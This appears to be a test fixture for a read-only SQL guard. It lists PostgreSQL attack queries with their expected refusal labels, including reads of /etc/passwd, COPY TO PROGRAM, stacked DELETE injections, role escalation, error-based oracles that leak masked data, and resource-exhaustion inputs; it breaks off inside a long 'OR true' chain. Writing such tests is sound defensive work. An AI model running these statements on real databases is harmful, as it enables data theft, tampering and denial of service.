-- Attacks on MySQL and MariaDB, one a paragraph: see refuse.postgresql.sql. `{db}` is the database
-- that is asked.

-- statement that is no query | not-a-select,not-supported,syntax
INSERT INTO products VALUES (99, 'x', 'tools', 1, '{}', NULL)

-- statement that is no query | not-a-select,not-supported,syntax
UPDATE customers SET name = 'x'

-- statement that is no query | not-a-select,not-supported,syntax
DELETE FROM orders

-- statement that is no query | not-a-select,not-supported,syntax
MERGE INTO products p USING orders o ON p.id = o.id WHEN MATCHED THEN DELETE

-- statement that is no query | not-a-select,not-supported,syntax
TRUNCATE orders

-- statement that is no query | not-a-select,not-supported,syntax
DROP TABLE customers

-- statement that is no query | not-a-select,not-supported,syntax
CREATE TABLE t (a int)

-- statement that is no query | not-a-select,not-supported,syntax
CREATE TEMP TABLE t AS SELECT 1

-- statement that is no query | not-a-select,not-supported,syntax
CREATE VIEW v AS SELECT * FROM customers

-- statement that is no query | not-a-select,not-supported,syntax
ALTER TABLE customers ADD x int

-- statement that is no query | not-a-select,not-supported,syntax
GRANT SELECT ON customers TO public

-- statement that is no query | not-a-select,not-supported,syntax
COPY customers TO STDOUT

-- statement that is no query | not-a-select,not-supported,syntax
COPY customers TO PROGRAM 'cat'

-- statement that is no query | not-a-select,not-supported,syntax
COPY products FROM '/etc/passwd'

-- statement that is no query | not-a-select,not-supported,syntax
SET default_transaction_read_only = off

-- statement that is no query | not-a-select,not-supported,syntax
SET ROLE postgres

-- statement that is no query | not-a-select,not-supported,syntax
RESET ALL

-- statement that is no query | not-a-select,not-supported,syntax
SHOW search_path

-- statement that is no query | not-a-select,not-supported,syntax
SHOW ALL

-- statement that is no query | not-a-select,not-supported,syntax
BEGIN

-- statement that is no query | not-a-select,not-supported,syntax
COMMIT

-- statement that is no query | not-a-select,not-supported,syntax
ROLLBACK

-- statement that is no query | not-a-select,not-supported,syntax
EXPLAIN SELECT * FROM customers

-- statement that is no query | not-a-select,not-supported,syntax
EXPLAIN ANALYZE SELECT * FROM customers

-- statement that is no query | not-a-select,not-supported,syntax
ANALYZE customers

-- statement that is no query | not-a-select,not-supported,syntax
VACUUM

-- statement that is no query | not-a-select,not-supported,syntax
LISTEN x

-- statement that is no query | not-a-select,not-supported,syntax
NOTIFY x, 'y'

-- statement that is no query | not-a-select,not-supported,syntax
PREPARE p AS SELECT 1

-- statement that is no query | not-a-select,not-supported,syntax
EXECUTE p

-- statement that is no query | not-a-select,not-supported,syntax
DEALLOCATE ALL

-- statement that is no query | not-a-select,not-supported,syntax
DECLARE c CURSOR FOR SELECT * FROM customers

-- statement that is no query | not-a-select,not-supported,syntax
FETCH ALL FROM c

-- statement that is no query | not-a-select,not-supported,syntax
LOCK TABLE customers

-- statement that is no query | not-a-select,not-supported,syntax
CALL p()

-- statement that is no query | not-a-select,not-supported,syntax
DO $$ BEGIN PERFORM 1; END $$

-- statement that is no query | not-a-select,not-supported,syntax
LOAD 'x'

-- statement that is no query | not-a-select,not-supported,syntax
DISCARD ALL

-- statement that is no query | not-a-select,not-supported,syntax
REINDEX TABLE customers

-- statement that is no query | not-a-select,not-supported,syntax
CHECKPOINT

-- statement that is no query | not-a-select,not-supported,syntax
CREATE EXTENSION dblink

-- statement that is no query | not-a-select,not-supported,syntax
IMPORT FOREIGN SCHEMA s FROM SERVER x INTO y

-- ONLY, TABLE and the like | unknown-name
TABLE credentials

-- several statements | many-statements,not-a-select,syntax
SELECT 1; SELECT 2

-- several statements | many-statements,not-a-select,syntax
SELECT 1; DELETE FROM orders

-- several statements | many-statements,not-a-select,syntax
COMMIT; DELETE FROM orders

-- several statements | many-statements,not-a-select,syntax
SELECT 1;;SELECT * FROM credentials

-- several statements | many-statements,not-a-select,syntax
SELECT 1; -- x
 SELECT 2

-- several statements | many-statements,not-a-select,syntax
/* x */ COMMIT; SELECT 1

-- several statements | many-statements,not-a-select,syntax
; SELECT 1; SELECT 2

-- hidden or absent name | unknown-name,not-supported
SELECT token FROM customers

-- hidden or absent name | unknown-name,not-supported
SELECT c.token FROM customers c

-- hidden or absent name | unknown-name,not-supported
SELECT customers."token" FROM customers

-- hidden or absent name | unknown-name,not-supported
SELECT * FROM credentials

-- hidden or absent name | unknown-name,not-supported
SELECT * FROM public.credentials

-- hidden or absent name | unknown-name,not-supported
SELECT * FROM customer_mails

-- hidden or absent name | unknown-name,not-supported
SELECT * FROM no_such_table

-- hidden or absent name | unknown-name,not-supported
SELECT no_such_column FROM customers

-- hidden or absent name | unknown-name,not-supported
SELECT id FROM customers WHERE token LIKE 'CANARY%'

-- hidden or absent name | unknown-name,not-supported
SELECT id FROM customers ORDER BY token

-- hidden or absent name | unknown-name,not-supported
SELECT count(*) FROM customers GROUP BY token

-- hidden or absent name | unknown-name,not-supported
SELECT id FROM customers JOIN credentials USING (id)

-- hidden or absent name | unknown-name,not-supported
SELECT 1 FROM customers c JOIN orders o ON c.token = o.note

-- hidden or absent name | unknown-name,not-supported
SELECT (SELECT token FROM customers LIMIT 1)

-- hidden or absent name | unknown-name,not-supported
SELECT max(token) FROM customers

-- hidden or absent name | unknown-name,not-supported
SELECT row_number() OVER (ORDER BY token) FROM customers

-- hidden or absent name | unknown-name,not-supported,syntax
SELECT count(*) FILTER (WHERE token IS NOT NULL) FROM customers

-- hidden or absent name | unknown-name,not-supported
SELECT CASE WHEN token > 'a' THEN 1 END FROM customers

-- hidden or absent name | unknown-name,not-supported
WITH t AS (SELECT token FROM customers) SELECT * FROM t

-- hidden or absent name | unknown-name,not-supported
SELECT id FROM customers WHERE EXISTS (SELECT 1 FROM credentials WHERE login = 'x')

-- hidden or absent name | unknown-name,not-supported
SELECT token FROM (SELECT * FROM customers) AS c

-- hidden or absent name | unknown-name,not-supported
SELECT x.password_hash FROM credentials x

-- hidden or absent name | unknown-name,not-supported
SELECT load_kg FROM vehicles

-- hidden or absent name | unknown-name,not-supported
SELECT * FROM company.public.customers

-- hidden or absent name | unknown-name,not-supported
SELECT * FROM postgres.public.customers

-- hidden or absent name | unknown-name
SELECT id FROM customers NATURAL JOIN credentials

-- ONLY, TABLE and the like | not-supported,not-a-select,unknown-name,syntax,function-refused
SELECT * FROM ONLY customers

-- ONLY, TABLE and the like | not-supported,not-a-select,unknown-name,syntax,function-refused
SELECT * FROM ONLY (customers)

-- ONLY, TABLE and the like | not-supported,not-a-select,unknown-name,syntax,function-refused
SELECT id FROM customers UNION ALL TABLE credentials

-- ONLY, TABLE and the like | safe
TABLE customers

-- ONLY, TABLE and the like | not-supported,not-a-select,unknown-name,syntax,function-refused
SELECT * FROM customers *

-- ONLY, TABLE and the like | not-supported,not-a-select,unknown-name,syntax,function-refused
SELECT 1 UNION ALL TABLE credentials

-- ONLY, TABLE and the like | not-supported,not-a-select,unknown-name,syntax,function-refused
SELECT * FROM (TABLE credentials) AS x

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT pg_catalog.pg_read_file('/etc/passwd')

-- function by another spelling | function-refused,not-supported,unknown-name,syntax
SELECT "pg_sleep"(1)

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT PG_SLEEP(1)

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT pg_sleep /**/ (1)

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT customers.spy FROM customers

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT c.spy FROM customers c

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT (c).token FROM customers c

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT c.pg_sleep FROM products c

-- function by another spelling | function-refused,not-supported,unknown-name
SELECT length(c) FROM customers c

-- masked column through an expression | safe
SELECT name || '' FROM customers

-- masked column through an expression | safe
SELECT upper(name) FROM customers

-- masked column through an expression | safe
SELECT substr(name, 1, 40) FROM customers

-- masked column through an expression | safe
SELECT (SELECT max(name) FROM customers)

-- masked column through an expression | safe
SELECT min(name), max(name) FROM customers

-- masked column through an expression | safe
SELECT DISTINCT name FROM customers

-- masked column through an expression | safe
SELECT name FROM customers UNION SELECT phone FROM customers

-- masked column through an expression | safe
SELECT n FROM (SELECT name AS n FROM customers) AS x

-- masked column through an expression | safe
WITH x AS (SELECT name AS n FROM customers) SELECT n FROM x

-- masked column through an expression | safe
WITH x(a) AS (SELECT phone FROM customers) SELECT a FROM x

-- masked column through an expression | safe
SELECT name FROM customers ORDER BY name LIMIT 3

-- masked column through an expression | safe
SELECT first_value(name) OVER (ORDER BY id) FROM customers

-- masked column through an expression | safe
SELECT lag(name) OVER (ORDER BY id) FROM customers

-- masked column through an expression | safe
SELECT coalesce(name, phone) FROM customers

-- masked column through an expression | safe
SELECT CASE WHEN true THEN name END FROM customers

-- masked column through an expression | safe
SELECT nullif(name, '') FROM customers

-- masked column through an expression | safe
SELECT greatest(name, phone) FROM customers

-- masked column through an expression | safe
SELECT format('%s', name) FROM customers

-- masked column through an expression | safe
SELECT concat(name, email, phone, ssn) FROM customers

-- masked column through an expression | safe
SELECT to_tsvector(name) FROM customers

-- masked column through an expression | safe
SELECT quote_literal(name) FROM customers

-- masked column through an expression | safe
SELECT a.name FROM customers a JOIN customers b USING (name)

-- masked column through an expression | safe
SELECT name FROM customers NATURAL JOIN orders

-- masked column through an expression | safe
SELECT body FROM tickets

-- masked column through an expression | safe
SELECT note FROM orders WHERE note IS NOT NULL

-- masked column through an expression | safe
SELECT card_no FROM payments

-- masked column through an expression | safe
SELECT plate FROM vehicles

-- masked column through an expression | safe
SELECT payload FROM events

-- masked column through an expression | safe
SELECT salary FROM employees

-- masked column through an expression | safe
SELECT avg(salary) FROM employees

-- masked column through an expression | safe
SELECT name, salary + 0 FROM employees

-- masked column through an expression | safe
SELECT ssn FROM customers

-- masked column through an expression | safe
SELECT min(ssn), max(ssn) FROM customers

-- masked column through an expression | safe
SELECT * FROM customers

-- masked column through an expression | safe
SELECT customers.* FROM customers

-- masked column through an expression | safe
SELECT * FROM customers, orders LIMIT 50

-- masked column through an expression | safe
SELECT birth_date FROM customers

-- masked column through an expression | safe
SELECT birth_date - date '1700-01-01' FROM customers

-- masked column through an expression | safe
SELECT left(name, 100), right(name, 100) FROM customers

-- masked column through an expression | safe
SELECT repeat(name, 3) FROM customers

-- masked column through an expression | safe
SELECT to_char(birth_date, 'YYYY-MM-DD') FROM customers

-- guessing behind the mask | no-rows
SELECT count(*) FROM customers WHERE name LIKE '%CANARYname1 %'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE email = 'ada.canarymail1@example1.com'

-- guessing behind the mask | no-rows
SELECT count(*) FROM customers WHERE phone LIKE '%CANARYphone%'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE birth_date = '1800-02-07'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE ssn = '00900001013'

-- guessing behind the mask | no-rows
SELECT id FROM employees WHERE salary = 7000011

-- guessing behind the mask | no-rows
SELECT id FROM payments WHERE card_no = '4111CANARYcard1'

-- guessing behind the mask | no-rows
SELECT id FROM tickets WHERE body LIKE '%CANARY%'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name ~ 'CANARY'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE position('CANARY' in name) > 0

-- guessing behind the mask | no-rows
SELECT id FROM customers GROUP BY id, name HAVING max(name) LIKE '%CANARY%'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name IN ('Ada CANARYname1 Lovelace')

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name BETWEEN 'Ada CANARYname1 L' AND 'Ada CANARYname1 M'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE strpos(name, 'CANARY') > 0

-- guessing behind the mask | no-rows
SELECT c.id FROM customers c JOIN (VALUES ('Ada CANARYname1 Lovelace')) AS v(n) ON v.n = c.name

-- guessing behind the mask | no-rows
SELECT count(*) FROM customers WHERE 'Ada CANARYname1 Lovelace' = ANY (ARRAY[name])

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE CASE WHEN name LIKE '%CANARY%' THEN true ELSE false END

-- guessing behind the mask | no-rows
SELECT count(*) FILTER (WHERE name LIKE '%CANARY%') AS n FROM customers HAVING count(*) FILTER (WHERE name LIKE '%CANARY%') > 0

-- guessing behind the mask | no-rows
SELECT id FROM vehicles WHERE plate LIKE '%CANARY%'

-- error text | safe
SELECT id / (id - id) FROM customers

-- error text | safe
SELECT CAST(phone AS date) FROM customers

-- error text | safe
SELECT 1 / (CASE WHEN birth_date > '1500-01-01' THEN 0 ELSE 1 END) FROM customers

-- error text | safe
SELECT to_date(name, 'YYYY') FROM customers

-- error text | safe
SELECT array_fill(1, ARRAY[id - 1000]) FROM customers

-- error text | safe
SELECT substring(name from 1 for -1) FROM customers

-- error text | safe
SELECT jsonb_path_query(profile, 'strict $.x') FROM customers

-- row filter | european-answers
SELECT id FROM customers WHERE 1 / (CASE WHEN region = 'US' THEN 0 ELSE 1 END) = 1

-- row filter | european-answers
SELECT id FROM customers WHERE CASE WHEN region = 'APAC' THEN (1/0) = 1 ELSE true END

-- row filter | european-no-rows
SELECT id FROM customers WHERE region = 'US'

-- row filter | european-no-rows
SELECT id FROM customers WHERE region IS NULL

-- row filter | european-no-rows
SELECT count(*) FROM customers WHERE region <> 'EU'

-- row filter | european-answers
SELECT c.id FROM customers c WHERE c.region = 'EU' OR true AND c.region = 'US'

-- row filter | european-no-rows
SELECT id FROM customers WHERE NOT (region = 'EU')

-- row filter | european-no-rows
SELECT id FROM customers EXCEPT SELECT id FROM customers WHERE region = 'EU'

-- row filter | european-no-rows
SELECT region FROM customers WHERE region > 'EU'

-- row filter | european-no-rows
SELECT o.id FROM orders o LEFT JOIN customers c ON c.id = o.customer_id WHERE c.id IS NULL

-- lexical | safe
SELECT * FROM customers WHERE id = 1 OR 1=1 -- x

-- lexical | safe
SELECT 0x41

-- lexical | safe
SELECT 0b101

-- lexical | safe
SELECT 0o17

-- lexical | safe
SELECT 1customers

-- lexical | safe
SELECT U&'d\0061t'

-- lexical | safe
SELECT U&"n\0061me" FROM customers

-- lexical | safe
SELECT /*+ SeqScan(c) */ 1 /*! 2 */

-- lexical | safe
SELECT /* /* nested */ token */ id FROM customers

-- lexical | safe
SELECT 1 /* open

-- lexical | safe
SELECT 'open

-- lexical | safe
SELECT $x$open

-- lexical | safe
SELECT "open

-- lexical | safe
SELECT ‮id FROM customers

-- lexical | safe
SELECT i​d FROM customers

-- lexical | safe
SELECT custоmers.id FROM customers

-- lexical | safe
SELECT ＊ FROM customers

-- lexical | safe
SELECT id FROM customers WHERE id=1

-- lexical | safe
SELECT aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa FROM customers

-- lexical | safe
SELECT 1 \; DROP TABLE x

-- lexical | safe
SELECT :name

-- lexical | safe
SELECT @x

-- lexical | safe
SELECT @@version

-- lexical | safe
SELECT #x

-- lexical | safe
SELECT [id] FROM customers

-- clause or construct | safe
SELECT * FROM customers FOR UPDATE

-- clause or construct | safe
SELECT * FROM customers FOR SHARE

-- clause or construct | safe
SELECT * INTO t FROM customers

-- clause or construct | safe
SELECT * INTO TEMP t FROM customers

-- clause or construct | safe
WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x

-- clause or construct | safe
WITH x AS (INSERT INTO products DEFAULT VALUES RETURNING id) SELECT * FROM x

-- clause or construct | safe
WITH x AS (UPDATE orders SET total = 0 RETURNING note) SELECT * FROM x

-- clause or construct | safe
SELECT * FROM customers TABLESAMPLE SYSTEM (10)

-- clause or construct | safe
SELECT * FROM customers AS OF SYSTEM TIME '-1s'

-- clause or construct | safe
SELECT c FROM customers c

-- clause or construct | safe
SELECT (c).* FROM customers c

-- clause or construct | safe
SELECT (SELECT c) FROM customers c

-- clause or construct | safe
SELECT count(c) FROM customers c

-- clause or construct | safe
SELECT customers FROM customers

-- clause or construct | safe
SELECT hash_record(c) FROM customers c

-- clause or construct | safe
SELECT xmlforest(name, token) FROM customers

-- clause or construct | safe
SELECT XMLELEMENT(NAME x, name) FROM customers

-- clause or construct | safe
SELECT * FROM customers CONNECT BY id = 1

-- clause or construct | safe
SELECT TOP 5 * FROM customers

-- clause or construct | safe
PIVOT customers ON city

-- clause or construct | safe
FROM customers

-- clause or construct | safe
SELECT * FROM customers QUALIFY row_number() OVER () = 1

-- clause or construct | safe
SELECT * EXCEPT (id) FROM customers

-- clause or construct | safe
SELECT nextval FROM customers_id_seq

-- clause or construct | safe
SELECT last_value FROM customers_id_seq

-- clause or construct | safe
SELECT OPERATOR(pg_catalog.+) 1

-- clause or construct | safe
SELECT 1 OPERATOR(public.+) 2

-- clause or construct | safe
SELECT * FROM json_table('[1]', '$[*]' COLUMNS (a int PATH '$'))

-- clause or construct | safe
SELECT id COLLATE "C" FROM customers

-- clause or construct | safe
SELECT name COLLATE public.x FROM customers

-- resources | safe
SELECT count(*) FROM customers a, customers b, customers c, customers d, orders e

-- resources | safe
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT max(i) FROM n

-- resources | safe
SELECT repeat('x', 1000000000)

-- resources | safe
SELECT 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' ~ '(a+)+$b'

-- resources | safe
SELECT ((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))

-- resources | safe
SELECT true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true 